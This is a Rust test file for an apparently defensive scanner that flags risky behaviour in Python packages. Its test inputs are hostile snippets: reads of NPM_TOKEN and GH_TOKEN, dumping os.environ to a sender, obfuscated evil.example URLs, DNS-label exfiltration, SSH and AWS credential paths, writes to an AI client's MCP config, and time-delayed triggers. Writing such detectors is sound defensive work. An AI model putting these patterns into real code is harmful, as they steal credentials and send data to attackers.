//! Tables: a line of Python, and the facts that it must give.

use super::read;
use crate::caps::Caps;
use crate::facts::{Class, Facts, Found};

fn values(source: &str, class: Class) -> Vec<String> {
    let mut facts = Facts::default();
    let mut found = Found::new(&mut facts, "pkg/a.py", source);
    let outcome = read(source, &Caps::default(), &mut found);
    crate::facts::recognisers::places::finish(&mut found);
    outcome.unwrap_or_else(|why| panic!("{why:?}: {source}"));
    facts.values(class).map(|(value, _)| value.to_owned()).collect()
}

fn check(class: Class, table: &[(&str, &[&str])]) {
    for (source, expected) in table {
        assert_eq!(values(source, class), *expected, "{source}");
    }
}

#[test]
fn capabilities_are_known_under_any_name() {
    check(
        Class::Exec,
        &[
            ("import subprocess\nsubprocess.run(['ls'])", &["subprocess", "subprocess.run"]),
            ("import subprocess as sp\nsp.Popen('ls')", &["subprocess", "subprocess.Popen"]),
            ("from subprocess import check_output as run\nrun('ls')", &["subprocess", "subprocess.check_output"]),
            ("import os\nos.system('ls')", &["os.system"]),
            ("import os\ngetattr(os, 'sys' + 'tem')('ls')", &["os.system"]),
            ("__import__('os').system('ls')", &["os.system"]),
            (
                "import asyncio\nasync def f():\n    await asyncio.create_subprocess_exec('ls')",
                &["asyncio.create_subprocess_exec"],
            ),
            ("import os\nos.path.join('a', 'b')\nos.environ['X']", &[]),
        ],
    );
    check(
        Class::Http,
        &[
            ("import requests\nrequests.post(x)", &["requests", "requests.post"]),
            ("from urllib.request import urlopen\nurlopen(x)", &["urllib.request", "urllib.request.urlopen"]),
            ("import urllib.request\nurllib.request.urlopen(x)", &["urllib.request", "urllib.request.urlopen"]),
        ],
    );
    check(
        Class::FileWrite,
        &[
            ("open('a', 'w')", &["open"]),
            ("open('a', mode='ab')", &["open"]),
            ("open('a')\nopen('b', 'rb')", &[]),
            ("from pathlib import Path\nPath('a').write_text(x)", &["*.write_text"]),
        ],
    );
    check(
        Class::DynamicCode,
        &[
            ("exec(x)", &["exec"]),
            ("eval(compile(x, 'a', 'exec'))", &["compile", "eval"]),
            ("getattr(__builtins__, 'ev' + 'al')(x)", &["eval"]),
            ("import pickle\npickle.loads(x)", &["pickle.loads"]),
            ("import re\nre.compile(x)\ndb.execute(x)", &[]),
        ],
    );
    check(
        Class::DynamicImport,
        &[
            ("__import__(x)", &["__import__"]),
            ("import importlib\nimportlib.import_module(x)", &["importlib.import_module"]),
            ("import importlib\nimportlib.import_module('json')", &[]),
        ],
    );
}

#[test]
fn environment_hosts_and_places() {
    check(
        Class::Environment,
        &[
            ("import os\nos.environ['NPM_TOKEN']", &["NPM_TOKEN"]),
            ("import os\nos.getenv('NPM_TOKEN', 'x')\nos.environ.get('GH_' + 'TOKEN')", &["GH_TOKEN", "NPM_TOKEN"]),
            ("from os import environ as e\ne['A_TOKEN']", &["A_TOKEN"]),
            ("import os\nsend(dict(os.environ))", &["*"]),
            ("import os\nfor k, v in os.environ.items(): send(k, v)", &["*"]),
        ],
    );
    check(
        Class::Host,
        &[
            ("H = 'evil.example'\nurl = f'https://{H}/x'", &["evil.example"]),
            ("url = 'https://%s/x' % 'evil.example'", &["evil.example"]),
            ("import base64\nurl = base64.b64decode(b'aHR0cHM6Ly9ldmlsLmV4YW1wbGU=').decode()", &["evil.example"]),
            ("url = b'https://evil.example'", &["evil.example"]),
            ("'''See https://docs.example for more.'''", &[]),
        ],
    );
    check(
        Class::SensitivePath,
        &[
            ("from pathlib import Path\np = Path.home() / '.ssh' / 'id_rsa'", &["ssh", "ssh-key"]),
            ("import os\np = os.path.expanduser('~/.aws/credentials')", &["aws"]),
            ("import os\np = os.path.join(home, '.npmrc')", &["npmrc"]),
        ],
    );
    check(
        Class::ClientConfigWrite,
        &[
            ("open(home + '/.cursor/mcp.json', 'w').write(x)", &["cursor"]),
            ("print('edit claude_desktop_config.json')", &[]),
        ],
    );
}

#[test]
fn waiting_and_dns() {
    check(
        Class::TimeGate,
        &[
            ("import time\ntime.sleep(48 * 3600)", &["waits 172800 s"]),
            ("from time import sleep\nsleep(1)", &[]),
            ("import time\nif time.time() > 1790000000: run()", &["date 1790000000"]),
            ("from datetime import datetime\nif datetime.now() > datetime(2026, 9, 1): run()", &["date 2026-09-01"]),
        ],
    );
    check(
        Class::DnsLabel,
        &[
            ("import socket\nsocket.gethostbyname(f'{data}.evil.example')", &["socket.gethostbyname"]),
            ("import socket\nsocket.gethostbyname(host)", &[]),
        ],
    );
}

#[test]
fn comments_docstrings_and_types_say_nothing() {
    let source = "def f(to: 'a@b.example') -> 'c@d.example':\n    \"\"\"Write to e@f.example.\"\"\"\n    # g@h.example\n    return 1\n";
    assert_eq!(values(source, Class::Email), Vec::<String>::new());
}
